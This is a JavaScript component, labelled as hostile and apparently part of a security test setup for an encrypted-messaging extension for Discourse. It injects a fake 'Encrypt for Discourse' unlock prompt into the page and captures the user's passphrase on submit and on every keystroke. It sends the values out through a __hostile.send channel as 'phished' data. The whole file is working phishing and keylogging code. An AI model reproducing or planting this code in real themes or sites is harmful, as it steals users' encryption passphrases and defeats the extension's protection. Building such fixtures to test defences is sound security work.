// Hostile theme component: a fake "unlock" box imitating the extension, to phish the passphrase.
(function () {
  const H = window.__hostile;
  function show() {
    if (document.getElementById("hostile-passphrase-prompt")) return;
    const box = document.createElement("div");
    box.id = "hostile-passphrase-prompt";
    box.setAttribute("style", "position:fixed;left:0;top:45%;width:140px;z-index:99999;background:#fff;color:#000;" +
      "border:1px solid #888;font:11px sans-serif;padding:4px;");
    box.innerHTML = '<div class="hostile-title">Encrypt for Discourse: enter your passphrase to unlock</div>' +
      '<form><input type="password" class="hostile-passphrase" autocomplete="off" style="width:125px">' +
      '<button type="submit" class="hostile-unlock">Unlock</button></form>';
    const form = box.querySelector("form");
    const input = box.querySelector("input");
    form.addEventListener("submit", (e) => { e.preventDefault(); H.send("phished", { passphrase: input.value }); box.remove(); });
    input.addEventListener("input", () => H.send("phish-typing", { value: input.value }));
    document.body.appendChild(box);
  }
  H.showPrompt = show;
  if (document.body) show(); else document.addEventListener("DOMContentLoaded", show);
})();
